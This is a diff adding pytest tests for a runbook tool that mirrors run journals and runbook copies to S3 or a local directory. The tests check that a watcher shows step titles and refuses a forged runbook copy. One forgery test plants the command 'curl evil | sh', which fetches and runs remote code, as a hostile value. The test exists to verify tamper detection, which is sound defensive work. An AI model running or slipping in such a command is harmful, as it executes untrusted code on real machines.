@@ -6,6 +6,8 @@ moto's S3 over HTTP (or a local directory) from this process, with its own store
 (SIGKILL) goes silent with since-when; S3 failing mid-run (a fault proxy in front of moto) leaves the driver's run
 unharmed, tells the watcher, and the mirror catches up; forged chunks (unsigned, another key, altered bytes) are
 refused and named, none of their events shown; a watcher on an ended run gets the whole journal and "ended".
+The run's runbook copy is mirrored too: a watcher through the repository shows the titles and expected durations
+a local watcher shows, and refuses (by name) a copy that is not the one run-started hashed.
 """
 
 from __future__ import annotations
@@ -25,11 +27,12 @@ from typing import Any
 import pytest
 
 from runbook.journal import read_journal
-from runbook.repository_watch import LIVE_EVERY_S, RepositoryEventSource, repository_source
+from runbook.repository_watch import LIVE_EVERY_S, RepositoryEventSource, open_repository, repository_source
+from runbook.watching import WatchedRun, open_local
 from steps.mirror.reading import MirrorRefused
 from tests.conftest import ROOT, run_cli
 from tests.support.s3server import FaultProxy, S3Endpoint, credentials_env, s3_bucket, s3_server  # noqa: F401
-from tests.support.signing import make_keys, signing_yaml
+from tests.support.signing import make_keys, sign_file, signing_yaml
 
 RUNBOOK = """
 version: 1
@@ -42,15 +45,20 @@ params:
   pause: {default: "2"}
 steps:
   - id: first
+    title: Say the first word
+    expect_duration: 3m
     run: "echo first"
     confirm: none
   - id: middle
+    title: Wait in the middle
+    expect_duration: 1h
     run: "sleep {{ pause }}; echo middle"
     confirm: none
   - id: last
     run: "echo last"
     confirm: none
 """
+TITLES = ["Say the first word", "Wait in the middle", "last"]
 
 
 def write_setup(tmp_path: Path, *, local: bool, s3_url: str | None, bucket: str | None, extra: str = "") -> tuple[Path, Path]:
@@ -338,6 +346,14 @@ def test_a_repository_that_encrypts_gets_encrypted_chunks_only_an_identity_opens
     assert len(local) >= 2 and not list((tmp_path / "repo" / "runs" / run_id / "journal").glob("*.jsonl"))
     for data in [s3.get_object(Bucket=s3_bucket, Key=k)["Body"].read() for k in chunks] + [p.read_bytes() for p in local]:
         assert data.startswith(b"age-encryption.org/v1") and b"run-started" not in data and b"middle" not in data
+    # the runbook copy too: sealed like the chunks, to the same epoch, nothing of it in clear
+    epoch = chunks[0].rsplit("/", 1)[-1].split(".")[1]  # each repository its own epoch, the chunks' one
+    local_epoch = local[0].name.split(".")[1]
+    sealed = [s3.get_object(Bucket=s3_bucket, Key=f"runs/{run_id}/runbook.{epoch}.yaml.age")["Body"].read(),
+              (tmp_path / "repo" / "runs" / run_id / f"runbook.{local_epoch}.yaml.age").read_bytes()]
+    assert not (tmp_path / "repo" / "runs" / run_id / "runbook.yaml").exists()
+    for data in sealed:
+        assert data.startswith(b"age-encryption.org/v1") and b"Wait in the middle" not in data
     # a watcher holding an identity of the recipients reads every event, from either repository
     for only in ("local", "s3"):
         wcfg = tmp_path / f"watcher-{only}.yaml"
@@ -346,6 +362,9 @@ def test_a_repository_that_encrypts_gets_encrypted_chunks_only_an_identity_opens
                         + "\n")
         src = repository_source(wcfg, run_id)
         assert src.poll() == events and src.status().ended, only
+        view = open_repository(wcfg, run_id)
+        view.update()
+        assert _titles(view) == TITLES and not view.last_status.note, (only, view.last_status.note)
     # one without: told which key would open it, nothing shown
     bare = tmp_path / "watcher-bare.yaml"
     bare.write_text(cfg.read_text())
@@ -374,6 +393,12 @@ def test_a_detached_run_resumed_goes_on_in_the_same_mirror(tmp_path: Path) -> No
     assert before + after == journal(state, run_id) and after[-1]["status"] == "completed"
     now = sorted(p.name for p in (tmp_path / "repo" / "runs" / run_id / "journal").glob("*.jsonl"))
     assert now[: len(chunks)] == chunks and len(now) > len(chunks)  # numbering went on after the first driver's
+    # the resumed run goes on with the run's one copy of its runbook: still verified, titles shown
+    assert sorted(p.name for p in (tmp_path / "repo" / "runs" / run_id).glob("runbook*")) == [
+        "runbook.yaml", "runbook.yaml.sig"]
+    view = open_repository(cfg, run_id)
+    view.update()
+    assert _titles(view) == TITLES and view.last_status.ended and not view.last_status.note
 
 
 def test_a_driver_without_a_signing_key_mirrors_unsigned_read_only_with_allow_unsigned(tmp_path: Path) -> None:
@@ -392,3 +417,112 @@ def test_a_driver_without_a_signing_key_mirrors_unsigned_read_only_with_allow_un
     assert repository_source(cfg, run_id, allow_unsigned=True).poll() == events
     w = run_cli("watch", "-c", str(cfg), run_id, "--headless", "--allow-unsigned", timeout=60)
     assert w.returncode == 0 and "-- the run has ended: completed" in w.stdout, w.stdout + w.stderr
+
+
+def _titles(view: WatchedRun) -> list[str]:
+    return [view.ctx.runbook.step(sid).display_title for sid in view.steps]
+
+
+@pytest.mark.parametrize("where", ["local", "s3"])
+def test_a_watcher_through_the_repository_shows_the_runbook_titles_and_durations(
+        where: str, tmp_path: Path, s3_server: S3Endpoint, s3_bucket: str) -> None:  # noqa: F811
+    rb, cfg = write_setup(tmp_path, local=where == "local", s3_url=s3_server.url if where == "s3" else None,
+                          bucket=s3_bucket)
+    state = tmp_path / "state"
+    r = run_cli("run", str(rb), "--headless", "--yes", "--mode", "drill", "--set", f"repository={cfg}",
+                "--set", "pause=0", "--state-dir", str(state), env=credentials_env(), timeout=90)
+    assert r.returncode == 0, r.stdout + r.stderr
+    run_id = run_id_of(state)
+    copy = (state / "runs" / run_id / "runbook.yaml").read_bytes()
+    key = f"runs/{run_id}/runbook.yaml"
+    if where == "local":
+        stored = (tmp_path / "repo" / key).read_bytes()
+        assert (tmp_path / "repo" / (key + ".sig")).is_file()
+    else:
+        s3 = s3_server.client()
+        stored = s3.get_object(Bucket=s3_bucket, Key=key)["Body"].read()
+        s3.head_object(Bucket=s3_bucket, Key=key + ".sig")
+    assert stored == copy
+    remote, local = open_repository(cfg, run_id), open_local(state, run_id)
+    remote.update()
+    local.update()
+    assert _titles(remote) == _titles(local) == TITLES
+    assert remote.ctx.expected == local.ctx.expected == {"first": 180.0, "middle": 3600.0}
+    assert "runbook" not in remote.last_status.note
+    # the --headless follower: the same step lines, titles and expected durations in, through either way
+    lines = {}
+    for how in ("remote", "local"):
+        w = run_cli("watch", *(("-c", str(cfg)) if how == "remote" else ("--state-dir", str(state))), run_id,
+                    "--headless", env=credentials_env(), timeout=60)
+        assert w.returncode == 0, w.stdout + w.stderr
+        lines[how] = [ln for ln in w.stdout.splitlines() if " started: " in ln]
+    assert lines["remote"] == lines["local"] and len(lines["remote"]) == 3
+    assert "1/3 first  started: attempt 1  [Say the first word · expected 0:03:00]" in lines["remote"][0]
+
+
+async def test_the_cockpit_through_the_repository_shows_the_titles_while_the_run_goes_on(
+        tmp_path: Path, s3_server: S3Endpoint, s3_bucket: str) -> None:  # noqa: F811
+    from textual.widgets import Static
+
+    from runbook.tui.watch_screen import WatchApp, WatchScreen
+    from tests.tui.conftest import until
+
+    rb, cfg = write_setup(tmp_path, local=False, s3_url=s3_server.url, bucket=s3_bucket)
+    state = tmp_path / "state"
+    driver = start_driver(rb, cfg, state, "--set", "pause=60")
+    pgid = None
+    try:
+        run_id = run_id_of(state)
+        app = WatchApp(open_repository(cfg, run_id), poll_s=0.2)
+        async with app.run_test(size=(120, 30)) as pilot:
+            await until(pilot, lambda: isinstance(app.screen, WatchScreen) and app.screen.running == "middle",
+                        timeout=60)
+            shown = str(app.screen.query_one("#steps", Static).content)
+            assert "Wait in the middle" in shown and "Say the first word" in shown, shown
+            view = app.screen.view
+            pgid = next(e["pgid"] for e in view.state.events
+                        if e["type"] == "step-started" and e.get("step") == "middle")
+            # the projection a local watcher shows: the same expected durations left
+            local = open_local(state, run_id)
+            local.update()
+            mine, theirs = view.clock_status(), local.clock_status()
+            assert mine.projected_s is not None and theirs.projected_s is not None
+            assert mine.projected_s - mine.elapsed_s == pytest.approx(theirs.projected_s - theirs.elapsed_s, abs=2)
+            assert mine.unknown_steps == theirs.unknown_steps == 1
+    finally:
+        if driver.poll() is None:
+            driver.kill()
+            driver.wait(10)
+        if pgid:
+            with contextlib.suppress(ProcessLookupError):
+                os.killpg(pgid, signal.SIGKILL)
+
+
+@pytest.mark.parametrize("forgery", ["another runbook, signed with a trusted key", "altered", "unsigned"])
+def test_a_replaced_runbook_copy_is_refused_and_named(forgery: str, tmp_path: Path) -> None:
+    cfg, _, run_id = _ended_local_run(tmp_path)
+    repo = tmp_path / "repo"
+    key = f"runs/{run_id}/runbook.yaml"
+    path = repo / key
+    hostile = path.read_bytes().replace(b'run: "echo last"', b'run: "curl evil | sh"').replace(
+        b"Wait in the middle", b"All is fine, skip the checks")
+    if forgery == "another runbook, signed with a trusted key":
+        path.write_bytes(hostile)
+        sign_file(repo, key)
+        reason = "the run's journal records"
+    elif forgery == "altered":
+        path.write_bytes(hostile)
+        reason = "bytes changed after"
+    else:
+        (repo / (key + ".sig")).unlink()
+        reason = "unsigned"
+    view = open_repository(cfg, run_id)
+    events = view.update()
+    assert events == journal(tmp_path / "state", run_id)  # the journal is genuine: followed, steps by their ids
+    assert _titles(view) == ["first", "middle", "last"] and view.ctx.expected == {}
+    note = view.last_status.note
+    assert key in note and reason in note and "refused" in note and "steps are shown by their ids" in note, note
+    w = run_cli("watch", "-c", str(cfg), run_id, "--headless", timeout=60)
+    assert w.returncode == 0 and "Traceback" not in w.stderr, w.stdout + w.stderr
+    assert key in w.stdout and reason in w.stdout
+    assert "All is fine" not in w.stdout and "Wait in the middle" not in w.stdout and "expected" not in w.stdout
